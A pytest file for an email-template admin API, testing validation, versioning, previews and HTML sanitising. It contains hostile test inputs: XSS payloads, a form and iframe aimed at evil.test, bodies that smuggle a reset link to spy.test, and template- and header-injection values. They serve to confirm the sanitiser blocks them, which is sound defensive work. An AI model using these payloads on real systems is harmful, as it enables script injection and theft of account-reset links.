"""The mails of the system in the words of the house."""

import re
from typing import Any

import pytest
from cenacle.app import stock
from cenacle.calls.words import LINK, checked_words
from cenacle.platform.access import Role
from cenacle.platform.mail import EmailTemplate, templates
from cenacle.platform.mail.models import MailboxMessage
from cenacle.testing import Client, TestHouse

UPDATE = "/api/emailTemplate/update"


@pytest.fixture
def admin(house: TestHouse) -> Client:
    return house.client(Role.ADMIN)


@pytest.fixture
def reset(admin: Client) -> dict[str, Any]:
    """The template ResetPassword, as the house opens it."""
    return read(admin, "ResetPassword")


@pytest.fixture
def notice(admin: Client) -> dict[str, Any]:
    """The template PasswordWasChanged, which has no link."""
    return read(admin, "PasswordWasChanged")


def read(admin: Client, key: str) -> Any:
    rows = admin.post("/api/emailTemplate/table", {"allSearch": key}).result["rows"]
    return admin.get(f"/api/emailTemplate/{rows[0]['id']}").result


def test_the_house_finds_every_template_in_its_table(house: TestHouse, admin: Client) -> None:
    answer = admin.post(
        "/api/emailTemplate/table", {"sort": [{"field": "key", "desc": False}], "take": 100}
    )

    keys = [row["key"] for row in answer.result["rows"]]
    assert keys == sorted(house.served.mail.templates)
    assert {template.key for template in templates.CORE} <= {*keys}
    assert answer.result["total"] == len(keys)
    assert set(answer.result["rows"][0]) == {
        "id", "key", "subject", "description", "isEnabled", "version",
    }  # fmt: skip
    off = admin.post("/api/emailTemplate/table", {"state": "off", "take": 100}).result
    assert {row["isEnabled"] for row in off["rows"]} <= {False}
    on = admin.post("/api/emailTemplate/table", {"state": "on", "take": 100}).result
    assert on["total"] + off["total"] == len(keys)
    assert on["total"] > 0


def test_a_template_comes_with_the_placeholders_that_it_may_use(reset: dict[str, Any]) -> None:
    assert (reset["key"], reset["to"], reset["cc"], reset["version"]) == (
        "ResetPassword", "{{ email }}", None, 1,
    )  # fmt: skip
    names = [placeholder["name"] for placeholder in reset["placeholders"]]
    assert names == [
        "email", "firstName", "lastName", "nickName", "link", "expires", "portalTitle",
        "supportEmail",
    ]  # fmt: skip
    assert all(p["description"] and p["example"] for p in reset["placeholders"])


@pytest.mark.parametrize("template", templates.CORE, ids=lambda template: template.key)
def test_the_first_words_of_a_template_can_be_saved_as_they_are(
    admin: Client, template: templates.Template
) -> None:
    kept = read(admin, template.key)

    saved = admin.put(UPDATE, kept)

    assert saved.status == 200
    assert saved.result == kept


def test_a_template_is_written_anew(admin: Client, notice: dict[str, Any]) -> None:
    words = {
        "id": notice["id"],
        "version": 1,
        "to": "{{ email }}",
        "cc": "office@house.test,  {{ supportEmail }}",
        "bcc": None,
        "subject": "A new key, {{firstName}}",
        "body": "<p>Here: {{ nickName }}</p>",
        "description": "ignored",
    }

    saved = admin.put(UPDATE, words).result

    assert saved == words | {
        "key": "PasswordWasChanged",
        "cc": "office@house.test, {{ supportEmail }}",
        "description": notice["description"],
        "placeholders": notice["placeholders"],
        "language": "en",
        "texts": {"en": {"subject": words["subject"], "body": words["body"]}},
        "isEnabled": True,
        "isOptional": False,
        "version": 2,
    }
    assert admin.get(f"/api/emailTemplate/{notice['id']}").result == saved


def test_what_another_wrote_meanwhile_is_not_overwritten(
    admin: Client, reset: dict[str, Any]
) -> None:
    admin.put(UPDATE, reset | {"subject": "First"})

    answer = admin.put(UPDATE, reset | {"subject": "Second"})

    assert answer.status == 400
    assert "changed this" in answer.failures["version"]
    assert read(admin, "ResetPassword")["subject"] == "First"


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("subject", "Hello {{ nobody }}", "There is no placeholder {{ nobody }} here. You may use"),
        ("body", "<p>{{ newEmail }}</p>", "There is no placeholder {{ newEmail }} here."),
        ("body", "<p>{{ <b>none</b> }}</p>", "There is no placeholder {{ none }} here."),
        ("body", "<p>{{ link.__class__ }}</p>", "There is no placeholder {{ link.__class__ }}"),
        ("body", "<p>{{ 7 * 7 }}</p>", "There is no placeholder {{ 7 * 7 }} here."),
        ("body", "<p> <br> </p>", "This field is required."),
        ("body", "", "This field is required."),
        ("subject", " ", "This field is required."),
        ("subject", "x" * 201, "Use at most 200 characters."),
        ("to", "", "This field is required."),
        ("to", "nobody", "nobody is not an email address."),
        ("to", "a@house.test, b@house.test", "Write one address here, and the others as copies."),
        ("to", "{{ firstName }}", "There is no placeholder {{ firstName }} here. You may use"),
        ("to", "{{ supportEmail }}", "There is no placeholder {{ supportEmail }} here."),
        ("cc", "a@house.test; b@house.test", "a@house.test; b@house.test is not an email"),
        ("bcc", "a@house.test\nSubject: x", "a@house.test\nSubject: x is not an email address."),
    ],
)
def test_what_cannot_be_sent_is_refused_at_its_field(
    admin: Client, reset: dict[str, Any], field: str, value: str, message: str
) -> None:
    answer = admin.put(UPDATE, reset | {field: value})

    assert answer.status == 400
    assert answer.failures[field].startswith(message)
    assert read(admin, "ResetPassword") == reset


WITH_LINKS = [template for template in templates.CORE if template.links]


@pytest.mark.parametrize("template", WITH_LINKS, ids=lambda template: template.key)
@pytest.mark.parametrize(
    ("field", "value", "what"),
    [
        ("cc", "spy@house.test", "Leave this empty."),
        ("bcc", "spy@house.test", "Leave this empty."),
        ("bcc", "{{ supportEmail }}", "Leave this empty."),
        ("to", "spy@house.test", "Write {{ email }} here."),
    ],
)
def test_a_mail_with_a_link_takes_no_other_reader(
    admin: Client, template: templates.Template, field: str, value: str, what: str
) -> None:
    kept = read(admin, template.key)

    answer = admin.put(UPDATE, kept | {field: value})

    assert answer.failures == {field: f"This mail has a link that is for its reader alone. {what}"}
    assert read(admin, template.key) == kept


def test_a_mail_with_a_link_does_not_go_to_another_address_of_its_own(admin: Client) -> None:
    """The new address is the asker's; the link that stops the change is the old one's."""
    asked = read(admin, "EmailChangeAsked")

    assert set(admin.put(UPDATE, asked | {"to": "{{ newEmail }}"}).failures) == {"to"}
    assert admin.put(UPDATE, asked | {"to": "{{email}}", "cc": " "}).status == 200


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.test/pixel.gif'>",
        "<p onclick='alert(1)'>words</p>",
        "<a href='javascript:alert(1)'>words</a>",
        "<a href='jav&#x09;ascript:alert(1)'>words</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>words</a>",
        "<a href='{{ firstName }}'>words</a>",
        "<a href='//evil.test'>words</a>",
        "<a href='javascript://[::1'>words</a>",
        "<p style='background-image:url(https://evil.test/x)'>words</p>",
        "<p style='position:fixed;top:0'>words</p>",
        "<style>p{color:red}</style>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src='https://evil.test'></iframe>",
        "<form action='https://evil.test'><input name=password></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<meta http-equiv=refresh content='0;url=https://evil.test'>",
        "<base href='https://evil.test'>",
    ],
)
def test_html_is_kept_without_what_could_do_harm(
    admin: Client, reset: dict[str, Any], attack: str
) -> None:
    draft = {"id": reset["id"], "subject": "x", "body": f"<p>safe words</p>{attack}"}

    saved = admin.put(UPDATE, reset | draft).result["body"]
    seen = admin.post("/api/emailTemplate/preview", draft).result["html"]

    for kept in (saved, seen):
        assert "safe words" in kept
        for harm in (
            "alert",
            "evil",
            "script",
            "onclick",
            "<img",
            "<form",
            "position",
            "firstName",
        ):
            assert harm not in kept


CARRIED = [
    '<p><a href="https://spy.test/?u={{ link }}">words</a></p>',
    '<p><a href="https://spy.test/?u=&#123;&#123; link }}">words</a></p>',
    '<p><a href="https://spy.test/{{ Link }}">words</a></p>',
    '<p><a href="https://spy.test/{{ li&#110;k }}">words</a></p>',
    '<p><a href="mailto:spy@spy.test?body={{ link }}">words</a></p>',
    '<p><a href="{{ link }}{{ link }}">words</a></p>',
    "<p>words https://spy.test/?u={{ link }}</p>",
    "<p>words https://spy.test/?u=<b>{{ link }}</b></p>",
    '<p>words https://spy.test/?u=<a href="{{ link }}">{{ link }}</a></p>',
]
"""Bodies by which a reader would bring their own link to somebody else."""


@pytest.mark.parametrize("body", CARRIED)
def test_a_link_goes_nowhere_but_to_its_page(
    admin: Client, reset: dict[str, Any], body: str
) -> None:
    saved = admin.put(UPDATE, reset | {"body": body}).result["body"]
    seen = admin.post("/api/emailTemplate/preview", reset | {"body": body}).result

    assert "words" in saved
    for shown in (saved, seen["html"], seen["text"]):
        assert not re.search(r"spy\.test[^\s<]*(\{\{|https:)", shown)
        assert "<a>words" in saved or "https://spy.test/?u= " in re.sub("<[^<>]*>", " ", saved)


def test_a_link_of_a_captains_own_words_goes_nowhere_else(house: TestHouse) -> None:
    body = '<p>Come. <a href="https://spy.test/?u={{ Link }}">Yes</a></p>'

    _, kept = checked_words(house.served, None, body)

    assert kept == f"<p>Come. <a>Yes</a></p>{LINK}"


def test_what_a_mail_needs_stays(admin: Client, reset: dict[str, Any]) -> None:
    body = (
        '<h1>One</h1><p style="text-align:center">Two <span style="color:#1f5b45">three</span> '
        "<strong>four</strong> <em>five</em> <u>six</u> <s>seven</s><br></p>"
        '<ul><li>eight</li></ul><ol><li>nine</li></ol><blockquote>ten</blockquote>'
        '<p><a href="{{ link }}">eleven</a> <a href="{{link}}">twelve</a> '
        '<a href="https://house.test/a?b=1">thirteen</a> '
        '<a href="mailto:{{ supportEmail }}">fourteen</a></p>'
        "<table><tbody><tr><td>fifteen</td></tr></tbody></table>"
    )  # fmt: skip

    assert admin.put(UPDATE, reset | {"body": body}).result["body"] == body


def test_a_preview_is_the_mail_filled_in_with_examples(
    house: TestHouse, admin: Client, reset: dict[str, Any]
) -> None:
    house.write_setting("PortalTitle", "Manresa & Friends")
    draft = {
        "id": reset["id"],
        "subject": "{{ portalTitle }}: hello {{ firstName }}",
        "body": '<p>Dear {{&nbsp;nickName&nbsp;}}</p><p><a href="{{ link }}">Go</a></p>',
    }

    seen = admin.post("/api/emailTemplate/preview", draft).result

    link = "https://portal.example.org/reset-password?code=example"
    assert seen["subject"] == "Manresa & Friends: hello Ann"
    assert f'href="{link}"' in seen["html"]
    assert "Manresa &amp; Friends" in seen["html"]
    assert seen["text"] == f"Dear Annie\n\nGo: {link}\n\n-- \nManresa & Friends\n"
    assert read(admin, "ResetPassword") == reset
    wrong = admin.post("/api/emailTemplate/preview", draft | {"subject": "{{ x }}"})
    assert list(wrong.failures) == ["subject"]


def test_a_test_goes_to_whoever_asks_for_it(
    house: TestHouse, admin: Client, reset: dict[str, Any]
) -> None:
    draft = {"id": reset["id"], "subject": "Try {{ firstName }}", "body": "<p>{{ link }}</p>"}

    answer = admin.post("/api/emailTemplate/send-test", draft)
    house.served.queue.huey.execute(house.served.queue.huey.dequeue())

    assert answer.result == "A test is on its way to admin@house.test."
    with house.session() as session:
        kept = session.query(MailboxMessage).one()
        assert (kept.recipient_email, kept.subject) == ("admin@house.test", "Try Ann")
        assert "portal.example.org" in kept.source


@pytest.mark.parametrize("path", ["/api/emailTemplate/99", "/api/emailTemplate/x"])
def test_a_template_that_is_not_there_is_not_found(admin: Client, path: str) -> None:
    assert admin.get(path).status == 404
    body = {"id": 99, "subject": "x", "body": "<p>x</p>", "to": "{{ email }}"}
    for call in ("preview", "send-test"):
        assert admin.post(f"/api/emailTemplate/{call}", body).status == 404
    assert admin.put(UPDATE, body).status == 404


def test_a_new_version_leaves_the_words_of_the_house_alone(
    house: TestHouse, admin: Client, reset: dict[str, Any]
) -> None:
    admin.put(UPDATE, reset | {"subject": "Ours"})
    with house.session() as session:
        session.query(EmailTemplate).filter_by(key="AccountExists").delete()
        session.query(EmailTemplate).update({"description": "old"})

    with house.session() as session:
        stock(session, house.served)

    assert read(admin, "ResetPassword")["subject"] == "Ours"
    assert read(admin, "ResetPassword")["description"] == reset["description"]
    assert read(admin, "AccountExists")["version"] == 1
